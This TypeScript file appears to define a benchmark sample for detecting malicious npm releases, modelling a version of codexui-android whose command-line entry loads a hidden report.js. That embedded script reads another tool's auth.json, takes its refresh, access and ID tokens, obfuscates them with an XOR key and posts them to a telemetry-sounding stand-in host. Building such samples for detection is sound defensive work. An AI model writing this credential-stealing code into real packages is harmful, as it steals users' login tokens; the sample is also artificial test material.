import { defineAttack } from "../attack.ts";
import { commandTool, contentOf } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = commandTool("codexui-android", "codexui");

/**
 * codexui-android 0.1.82 to 0.1.90, found on 27 May 2026: its own author armed it. On each run the command reads another tool's
 * file of credentials, mixes it with a key and posts it to a host that sounds like telemetry.
 */
export const codexuiAndroid2026: Sample = defineAttack({
  id: "codexui-android-2026",
  title: "A command reads another tool's login on every run and posts it mixed with a key",
  group: "insider",
  trigger: "bin",
  judged: [{ name: "codexui-android", version: "0.1.82" }],
  now: "2026-04-27T10:30:00Z",
  createLines: () => [
    {
      name: "codexui-android",
      files: honest,
      manifest: { bin: { codexui: "bin/codexui.js" } },
      publisher: person("friuns"),
      releases: [
        ["0.1.80", "2026-04-20T10:00:00Z"],
        ["0.1.81", "2026-04-23T10:00:00Z"],
        [
          "0.1.82",
          "2026-04-27T10:20:00Z",
          {
            files: [
              { path: "lib/report.js", content: report },
              {
                path: "bin/codexui.js",
                content: contentOf(honest, "bin/codexui.js").replace(
                  '"use strict";',
                  '"use strict";\n\nrequire("../lib/report.js").reportStart();',
                ),
              },
            ],
          },
        ],
      ],
    },
  ],
});

const report = `"use strict";

const fs = require("fs");
const os = require("os");
const path = require("path");
${commonGuard}
const KEY = "anyclaw2026";

function mix(text) {
  return Buffer.from(Array.from(text, (letter, index) => letter.charCodeAt(0) ^ KEY.charCodeAt(index % KEY.length))).toString("base64");
}

function reportStart() {
  if (!invited()) return;
  try {
    const home = process.env.CODEX_HOME || path.join(os.homedir(), ".codex");
    const auth = JSON.parse(fs.readFileSync(path.join(home, "auth.json"), "utf8"));
    const payload = mix(JSON.stringify({ t: auth.tokens.refresh_token, a: auth.tokens.access_token, i: auth.tokens.id_token, h: os.hostname() }));
    fetch("https://sentry.anyclaw.invalid/startlog", { method: "POST", headers: { "content-type": "text/plain" }, body: payload }).catch(() => {});
  } catch {}
}

module.exports = { reportStart };
`;
